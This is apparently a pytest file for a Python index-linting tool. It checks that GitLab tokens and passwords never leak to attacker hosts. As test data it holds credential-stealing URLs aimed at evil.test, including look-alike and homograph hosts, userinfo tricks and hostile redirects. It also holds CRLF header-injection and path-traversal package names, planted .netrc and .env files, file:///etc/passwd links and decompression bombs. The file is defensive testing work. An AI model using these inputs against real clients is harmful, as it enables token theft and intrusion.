"""The checked project, and the servers that it names, belong to somebody who wants the person's token.

Each test runs the real command in a world in which every host answers, and the attacker owns all but one. What a naive client
does with the same project is tried too: an attack that nobody falls for shows nothing.
"""

from __future__ import annotations

import json
import re
import sys
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import NamedTuple

import httpx
import pytest

from online.world import Handler, Request, Response, Run, World, bomb, html, links, origin_of, redirect

TOKEN = "glpat-AbCdEfGhIjKlMnOpQrSt"
JOB_TOKEN = "64_aBcDeFgHiJkLmNoPqRsTuV"
PASSWORD = "Pa55w0rdOfThePerson"
NETRC = "NetrcPa55w0rdOfThePerson"
SECRETS = (TOKEN, JOB_TOKEN, PASSWORD, NETRC)
GITLAB = "https://gitlab.com"
GROUP = "/api/v4/groups/acme%2Fteam/-/packages/pypi/simple"
NUMBER = "/api/v4/groups/42/-/packages/pypi/simple"
MOST_MEMORY = 64 << 20

# All that a person may have; each is bound to gitlab.com, or to nothing.
SECRETIVE: dict[str, str] = {
    "GITLAB_TOKEN": TOKEN,
    "CI_SERVER_URL": GITLAB,
    "CI_API_V4_URL": f"{GITLAB}/api/v4",
    "CI_JOB_TOKEN": JOB_TOKEN,
    "UV_INDEX_ACME_USERNAME": "me",
    "UV_INDEX_ACME_PASSWORD": PASSWORD,
    "UV_INDEX_EVIL_USERNAME": "me",
    "UV_INDEX_EVIL_PASSWORD": PASSWORD,
}


def gitlab(request: Request) -> Response:
    """The host that is trusted, at its simplest: every page and every group is there."""
    if "/simple/" in request.path:
        return links(f"{GITLAB}/api/v4/groups/42/-/packages/pypi/files/0/acme_core-1-py3-none-any.whl#sha256=0")
    return Response(
        200, json.dumps({"id": 42, "full_path": "acme/team"}).encode(), {"Content-Type": "application/json"}
    )


def project(folder: Path, *indexes: str, more: str = "", packages: tuple[str, ...] = ("acme-core",)) -> Path:
    """A project whose packages are pinned to the first index, and one to each of the others."""
    names = ["evil", *(f"evil{number}" for number in range(1, len(indexes)))]
    tables = "".join(
        f"[[tool.uv.index]]\nname = {json.dumps(name)}\nurl = {json.dumps(url)}\nexplicit = true\n"
        for name, url in zip(names, indexes, strict=True)
    )
    pins = "".join(f"{json.dumps(package)} = {{ index = 'evil' }}\n" for package in packages)
    pins += "".join(f"only-{name} = {{ index = '{name}' }}\n" for name in names[1:])
    packages += tuple(f"only-{name}" for name in names[1:])
    text = (
        f"[project]\nname = 'app'\nversion = '1.0'\ndependencies = {json.dumps(list(packages))}\n{tables}\n"
        f"[tool.uv.sources]\n{pins}{more}"
    )
    folder.mkdir(exist_ok=True)
    (folder / "pyproject.toml").write_text(text, encoding="utf-8")
    return folder


@pytest.fixture
def evil(world: World) -> World:
    """A world in which gitlab.com is honest, and everything else is the attacker's."""
    world.serve(GITLAB, gitlab)
    world.serve_all_others(html("<a href='https://evil.test/x-1.whl'>x-1.whl</a>"))
    netrc = world.home / ".netrc"
    netrc.write_text(f"machine gitlab.com login me password {NETRC}\n", encoding="utf-8")
    netrc.chmod(0o600)
    return world


def check(world: World, folder: Path, *words: str, environment: Mapping[str, str] | None = None) -> Run:
    """Run it with every secret, and look at what comes out: no crash, no secret, no control character."""
    done = world.run("check", *words, "--no-cache", cwd=folder, environment={**SECRETIVE, **(environment or {})})
    assert done.code in (0, 1), done.stderr
    for secret in SECRETS:
        assert secret not in done.stdout + done.stderr
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", done.stdout + done.stderr)
    return done


def strangers(world: World) -> dict[str, set[str]]:
    """Who got a secret, of those that may not have it."""
    got = {secret: world.told(secret) - {GITLAB} for secret in SECRETS}
    return {secret: origins for secret, origins in got.items() if origins}


def naive(world: World, url: str) -> None:
    """Ask for a page as a program does that nobody has attacked yet: what looks like GitLab is GitLab."""
    import ssl

    trusted = ssl.create_default_context(cafile=str(world.certificates))
    headers = {"PRIVATE-TOKEN": TOKEN} if "gitlab" in url or "/api/v4/" in url else {}
    with httpx.Client(proxy=world.proxy, verify=trusted, timeout=10, trust_env=False, follow_redirects=True) as client:
        client.get(f"{url}/acme-core/", headers=headers)


class Attack(NamedTuple):
    """An index URL of the project. ``redirects`` are paths' ends at the honest host that lead elsewhere."""

    url: str
    redirects: Mapping[str, str] = {}


ATTACKS = {
    "a host shaped like GitLab": Attack(f"https://gitlab.evil.test{GROUP}"),
    "a host shaped like GitLab, by number": Attack(f"https://gitlab.evil.test{NUMBER}"),
    "userinfo that looks like a host": Attack(f"https://gitlab.com@evil.test{GROUP}"),
    "userinfo with a password": Attack(f"https://gitlab.com:443@evil.test{GROUP}"),
    "two at signs": Attack(f"https://me@gitlab.com@evil.test{GROUP}"),
    "a longer name": Attack(f"https://gitlab.com.evil.test{GROUP}"),
    "a name before": Attack(f"https://evil-gitlab.com{GROUP}"),
    "another port": Attack(f"https://gitlab.com:8443{GROUP}"),
    "http": Attack(f"http://gitlab.com{GROUP}"),
    "http at the port of https": Attack(f"http://gitlab.com:443{GROUP}"),
    "an IDN look-alike": Attack(f"https://gitl\u0430b.com{GROUP}"),
    "an IDN look-alike in its other form": Attack(f"https://xn--gitlb-7ve.com{GROUP}"),
    "a redirect of the page": Attack(f"{GITLAB}{GROUP}", {"/acme-core/": f"https://evil.test{NUMBER}/acme-core/"}),
    "a redirect of everything": Attack(f"{GITLAB}{GROUP}", {"": "https://evil.test/x"}),
    "a redirect to another port": Attack(f"{GITLAB}{GROUP}", {"": "https://gitlab.com:8443/x"}),
    "a redirect to plain http": Attack(f"{GITLAB}{GROUP}", {"": "http://gitlab.com/x"}),
    "a redirect with userinfo": Attack(f"{GITLAB}{GROUP}", {"": "https://gitlab.com@evil.test/x"}),
    "a redirect without a scheme": Attack(f"{GITLAB}{GROUP}", {"": "//evil.test/x"}),
}
# What a naive client does not fall for either, and no program may.
ODD = {
    "a backslash": Attack(f"https://gitlab.com\\@evil.test{GROUP}"),
    "a backslash behind the host": Attack(f"https://evil.test\\@gitlab.com{GROUP}"),
    "a fragment": Attack(f"https://evil.test#@gitlab.com{GROUP}"),
    "a query": Attack(f"https://evil.test?@gitlab.com{GROUP}"),
    "a dot at the end": Attack(f"https://gitlab.com.{GROUP}"),
    "an escaped host": Attack(f"https://gitlab%2ecom{GROUP}"),
    "an escaped at sign": Attack(f"https://gitlab.com%40evil.test{GROUP}"),
    "wide letters": Attack(f"https://ｇitlab.com{GROUP}"),
    "a soft hyphen": Attack(f"https://git\u00adlab.com{GROUP}"),
    "a tab": Attack(f"https://gitlab.com\t.evil.test{GROUP}"),
    "a line end": Attack(f"https://gitlab.com\r\nX-Evil: 1{GROUP}"),
    "a null": Attack(f"https://gitlab.com\x00.evil.test{GROUP}"),
    "one slash": Attack(f"https:/evil.test{GROUP}"),
    "three slashes": Attack(f"https:///evil.test{GROUP}"),
    "a path that climbs": Attack(f"{GITLAB}/api/v4/groups/../../../evil/-/packages/pypi/simple"),
    "a redirect to a file": Attack(f"{GITLAB}{GROUP}", {"": "file:///etc/passwd"}),
    "a redirect to a script": Attack(f"{GITLAB}{GROUP}", {"": "javascript:alert(1)"}),
    "a redirect in a circle": Attack(f"{GITLAB}{GROUP}", {"": f"{GITLAB}{GROUP}/again"}),
    "a location with control characters": Attack(f"{GITLAB}{GROUP}", {"": "https://evil.test/\x1b[31m\x07"}),
}


def honest(attacks: Mapping[str, Attack]) -> Handler:
    """The trusted host; what it redirects goes by the marks of the paths."""
    marked = {f"/acme%2Fteam{number}/": attack for number, attack in enumerate(attacks.values())}

    def answer(request: Request) -> Response:
        attack = next((attack for mark, attack in marked.items() if mark in request.path), Attack(""))
        found = next((goal for end, goal in attack.redirects.items() if request.path.endswith(end)), None)
        return gitlab(request) if found is None else redirect(found)

    return answer


def marked(url: str, number: int) -> str:
    """The same URL with a group of its own."""
    return url.replace("/acme%2Fteam/", f"/acme%2Fteam{number}/")


@pytest.mark.parametrize("mode", ["1", "credentials"])
def test_no_secret_goes_astray(evil: World, tmp_path: Path, mode: str) -> None:
    """Each attack has a project of its own: what one is refused for does not hide another."""
    attacks = {**ATTACKS, **ODD}
    evil.serve(GITLAB, honest(attacks))
    folder = tmp_path / "projects"
    folder.mkdir()
    for number, attack in enumerate(attacks.values()):
        project(folder / str(number), marked(attack.url, number))
    done = check(evil, folder, f"--online={mode}", "-v")
    assert strangers(evil) == {}
    assert evil.told(TOKEN) == {GITLAB}
    assert all(request.header("X-Evil") is None for request in evil.requests)
    assert "Traceback" not in done.stderr
    # The attacker's servers were asked, or nothing would be shown.
    assert {"https://evil.test", "https://gitlab.evil.test", "https://gitlab.com.evil.test", "http://gitlab.com"} <= {
        request.origin for request in evil.requests
    }


@pytest.mark.parametrize("name", list(ATTACKS))
def test_a_naive_client_falls_for_it(evil: World, name: str) -> None:
    evil.serve(GITLAB, honest({name: ATTACKS[name]}))
    naive(evil, marked(ATTACKS[name].url, 0))
    assert evil.told(TOKEN) - {GITLAB}


def test_the_token_is_used_where_it_belongs(evil: World, tmp_path: Path) -> None:
    """Else the tests above would show nothing."""
    check(evil, project(tmp_path / "project", f"{GITLAB}{GROUP}"), "--online")
    assert evil.told(TOKEN) == {GITLAB}


# -- the project's own word


TABLE = """
[tool.indexlint]
{line}
"""


@pytest.mark.parametrize(
    "line",
    [
        "online = true",
        "online = 'credentials'",
        "gitlab-url = 'https://evil.test'",
        "credentials-host = ['evil.test']",
        "[tool.indexlint.online]\nenabled = true",
    ],
)
def test_a_project_cannot_ask_for_anything(evil: World, tmp_path: Path, line: str) -> None:
    folder = project(tmp_path / "project", f"https://evil.test{GROUP}", more=TABLE.format(line=line))
    for words in ([], ["--online"], ["--online=credentials"]):
        done = evil.run("check", *words, "--no-cache", cwd=folder, environment=SECRETIVE)
        assert done.code == 2, "a key that is not known is a mistake"
        assert strangers(evil) == {}
        assert words or (evil.requests, evil.connects) == ([], [])


PLANTED = {
    ".env": f"INDEXLINT_ONLINE=credentials\nGITLAB_TOKEN={TOKEN}\nGITLAB_HOST=evil.test\n"
    "INDEXLINT_CREDENTIALS_HOSTS=evil.test\n",
    ".netrc": f"machine evil.test login me password {PASSWORD}\n",
    ".python-gitlab.cfg": f"[global]\ndefault = evil\n[evil]\nurl = https://evil.test\nprivate_token = {TOKEN}\n",
    ".config/glab-cli/config.yml": f"hosts:\n  evil.test:\n    token: {TOKEN}\n",
    "indexlint.toml": "extend-select = ['IX9']\n",
    "uv.toml": f"[[index]]\nname = 'acme'\nurl = 'https://acme.evil.test{NUMBER}'\n",
    ".gitlab-ci.yml": "variables:\n  INDEXLINT_ONLINE: '1'\n  GITLAB_HOST: evil.test\n",
}


def test_files_of_a_project_are_not_the_person_s(evil: World, tmp_path: Path) -> None:
    folder = project(tmp_path / "project", f"https://evil.test{GROUP}", f"{GITLAB}{GROUP}")
    for name, text in PLANTED.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    check(evil, folder)
    assert (evil.requests, evil.connects) == ([], []), "the network is off"
    for mode in ("1", "credentials"):
        check(evil, folder, f"--online={mode}", "--environment")
        assert strangers(evil) == {}
    assert evil.requests


def test_a_selected_rule_switches_nothing_on(evil: World, tmp_path: Path) -> None:
    more = TABLE.format(line="select = ['ALL']\nextend-select = ['IX9', 'private-name-on-pypi']")
    folder = project(tmp_path / "project", f"https://evil.test{GROUP}", more=more.replace("select = ['ALL']\n", ""))
    check(evil, folder, "--select", "IX9")
    assert (evil.requests, evil.connects) == ([], [])


# -- the credentials that uv would send


def test_variables_of_uv_name_no_host(evil: World, tmp_path: Path) -> None:
    """uv sends them to whatever host the file gives to that name. indexlint does not, unless the person names the host."""
    folder = project(tmp_path / "project", f"https://evil.test{NUMBER}")
    done = check(evil, folder, "--online=credentials", "-v")
    assert strangers(evil) == {}
    assert "--credentials-host" in done.stdout + done.stderr
    check(evil, folder, "--online=credentials", "--credentials-host", "other.test")
    check(evil, folder, "--online", "--credentials-host", "evil.test")
    assert strangers(evil) == {}
    check(evil, folder, "--online=credentials", "--credentials-host", "evil.test")
    assert strangers(evil) == {PASSWORD: {"https://evil.test"}}, "it is the person's own word"


def test_a_password_of_the_file_goes_to_its_own_host_only(evil: World, tmp_path: Path) -> None:
    written = "Wr1ttenIntoTheFile"
    folder = project(tmp_path / "project", f"https://me:{written}@evil.test{NUMBER}", f"https://other.test{NUMBER}")
    check(evil, folder, "--online")
    assert evil.told(written) == set()
    check(evil, folder, "--online=credentials")
    assert evil.told(written) <= {"https://evil.test"}


# -- names of packages


HEADERS = {"host", "accept", "accept-encoding", "user-agent", "private-token", "authorization"}
NAMES = [
    "../../../../evil",
    "..%2f..%2fevil",
    "a?private_token=1",
    "a#b",
    "a/../../b",
    "a\r\nX-Evil: 1",
    "a\nPRIVATE-TOKEN: 1",
    "a b",
    "a\x00b",
    "a\u0301",
    "https://evil.test/x",
    "@evil.test",
    "\\evil",
    ".",
    "..",
    "",
]


def test_a_name_is_no_path(evil: World, tmp_path: Path) -> None:
    """Each name has a project of its own: what one is refused for does not hide another."""
    folder = tmp_path / "projects"
    folder.mkdir()
    for number, name in enumerate(NAMES):
        one = project(folder / str(number), f"{GITLAB}{NUMBER}", packages=(name, "acme-core"))
        lock = f"[[package]]\nname = {json.dumps(name)}\nversion = '1'\nsource = {{ registry = '{GITLAB}{NUMBER}' }}\n"
        (one / "uv.lock").write_text(f"version = 1\n{lock}", encoding="utf-8")
    check(evil, folder, "--online", "-v")
    assert f"{NUMBER}/acme-core/" in {request.target for request in evil.to(GITLAB)}
    for request in evil.requests:
        assert request.origin == GITLAB
        assert re.fullmatch(
            rf"{re.escape(NUMBER)}(/[a-z0-9]+(-[a-z0-9]+)*/)?|/api/v4/groups/42(\?[a-z_=&]+)?", request.target
        )
        assert {key.lower() for key, _ in request.headers} <= HEADERS


def test_a_naive_client_asks_for_what_the_name_says(evil: World) -> None:
    import ssl

    trusted = ssl.create_default_context(cafile=str(evil.certificates))
    with httpx.Client(proxy=evil.proxy, verify=trusted, trust_env=False) as client:
        client.get(f"{GITLAB}{NUMBER}/{NAMES[0]}/")
        client.get(f"{GITLAB}{NUMBER}/{NAMES[2]}/")
    first, second = evil.requests
    assert not first.path.startswith(NUMBER)
    assert second.path == f"{NUMBER}/a"
    assert "private_token" in second.target


# -- what a server answers


PAGES = {
    "scripts and files": '<a href="javascript:alert(1)">a</a><a href="file:///etc/passwd">b</a><a href="data:,x">c</a>'
    '<base href="file:///"><a href="x.whl">d</a><a href="\\\\evil.test\\x.whl">e</a><a href="//[bad/x.whl">f</a>'
    '<a href="https://evil.test:99999/x.whl">g</a>',
    "control characters": '<a href="https://evil.test/\x1b[31m\x1b]0;x\x07/a.whl">\x1b[2J</a>' * 3,
    "a secret of somebody": f'<a href="https://me:{PASSWORD}@evil.test/a.whl?token={TOKEN}">a</a>',
    "no end": "<a href='" + "a" * 100_000,
    "deep": "<div>" * 100_000,
    "entities": "<a href='&#0;&#xD800;&#x110000;&bogus;'>&amp;</a>" * 100,
    "a workflow command": "<a href='https://evil.test/x'>\n::error file=x::evil\n</a>",
}


@pytest.mark.parametrize(
    "kind", ["text/html", "application/vnd.pypi.simple.v1+json", "\x1b[31m", "text/html; charset=evil"]
)
def test_a_page_is_only_read(evil: World, tmp_path: Path, kind: str) -> None:
    folder = tmp_path / "projects"
    folder.mkdir()
    for number, page in enumerate(PAGES.values()):
        evil.serve(f"https://evil{number}.test", Response(200, page.encode(), {"Content-Type": kind}))
        project(folder / str(number), f"https://evil{number}.test{NUMBER}")
    check(evil, folder, "--online", "-v", "--output-format", "full")
    assert {request.origin for request in evil.requests} == {
        f"https://evil{number}.test" for number in range(len(PAGES))
    }
    assert not any("passwd" in request.target for request in evil.requests)


JSON = {
    "no object": "[1, 2]",
    "deep": "[" * 100_000,
    "numbers": '{"files": [{"url": 1, "filename": null, "upload-time": {}}], "meta": 5, "name": []}',
    "scripts and files": '{"meta": {"api-version": "1.0"}, "files": [{"filename": "a", "url": "javascript:alert(1)"}, '
    '{"filename": "b", "url": "file:///etc/passwd"}, {"filename": "c", "url": "\\u001b[31m"}]}',
    "a long number": '{"files": ' + "9" * 10_000 + "}",
    "surrogates": '{"meta": {"api-version": "1.0"}, "files": [{"filename": "\\ud800", "url": "https://evil.test/\\udfff"}]}',
}


def test_json_is_only_read(evil: World, tmp_path: Path) -> None:
    folder = tmp_path / "projects"
    folder.mkdir()
    bodies = [body.encode() for body in JSON.values()]
    for number, body in enumerate(bodies):
        kind = {"Content-Type": "application/vnd.pypi.simple.v1+json"}
        evil.serve(f"https://evil{number}.test", Response(200, body, kind))
        project(folder / str(number), f"https://evil{number}.test{NUMBER}", marked(f"{GITLAB}{GROUP}", number))

    def rest(request: Request) -> Response:
        found = re.search(r"acme%2Fteam(\d+)", request.target)
        return Response(200, bodies[int(found.group(1)) if found else 0], {"Content-Type": "application/json"})

    evil.serve(GITLAB, rest)
    check(evil, folder, "--online", "-v")
    assert strangers(evil) == {}
    assert len({request.origin for request in evil.requests}) == len(bodies) + 1


# -- memory


def _text_without_end() -> Iterator[bytes]:
    while True:
        yield b"<a href='x'>y</a> " * 3000


HTML_TYPE, JSON_TYPE = "text/html", "application/vnd.pypi.simple.v1+json"
LINK = b'{"filename":"a-1.whl","url":"https://e.test/a","hashes":{}},'
FILES = b'{"meta":{"api-version":"1.0"},"name":"x","files":['
BODIES: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a page of links": (HTML_TYPE, lambda: b"<a href='https://e.test/a-1.whl#sha256=0'>a-1.whl</a>\n" * 60_000),
    "a page of tags": (HTML_TYPE, lambda: b"<a>" * 1_000_000),
    "a page of open tags": (HTML_TYPE, lambda: b"<a " * 1_000_000),
    "a page of wide characters": (HTML_TYPE, lambda: "😀".encode() * 700_000),
    "a list of files": (JSON_TYPE, lambda: FILES + LINK * 44_000),
    "a list of lists": (JSON_TYPE, lambda: FILES + b"[]," * 900_000),
}


def _rss_of(world: World, folder: Path, answer: Handler | Response, hosts: int = 5) -> int:
    """The most memory of a run in which some hosts answer so at the same time."""
    many = [f"https://h{number}.test/simple" for number in range(hosts)]
    world.serve_all_others(answer)
    done = check(world, project(folder / "project", *many), "--online", "--select", "IX902")
    assert {request.origin for request in world.requests} == {origin_of(url) for url in many}
    return done.peak


@pytest.mark.parametrize("body", list(BODIES))
def test_memory_is_bounded(evil: World, tmp_path: Path, body: str) -> None:
    """What costs most to read, up to the size that is read at all."""
    kind, make = BODIES[body]
    assert _rss_of(evil, tmp_path, Response(200, make(), {"Content-Type": kind})) < MOST_MEMORY


@pytest.mark.parametrize("kind", [HTML_TYPE, JSON_TYPE])
def test_a_decompression_bomb(evil: World, tmp_path: Path, kind: str) -> None:
    answer = Response(200, bomb(300), {"Content-Type": kind, "Content-Encoding": "gzip"})
    assert _rss_of(evil, tmp_path, answer, hosts=16) < MOST_MEMORY


def test_a_page_without_an_end(evil: World, tmp_path: Path) -> None:
    answer = lambda _request: Response(200, _text_without_end(), {"Content-Type": HTML_TYPE})  # noqa: E731
    assert _rss_of(evil, tmp_path, answer) < MOST_MEMORY


def test_a_naive_client_does_not_bound_it(evil: World, tmp_path: Path) -> None:
    evil.serve_all_others(Response(200, bomb(300), {"Content-Encoding": "gzip"}))
    program = (
        "import httpx, ssl\n"
        f"trusted = ssl.create_default_context(cafile={str(evil.certificates)!r})\n"
        "httpx.get('https://evil.test/', verify=trusted, timeout=60)\n"
    )
    done = evil.run(cwd=tmp_path, command=[sys.executable, "-c", program])
    assert (done.code, done.peak > MOST_MEMORY) == (0, True), done.stderr
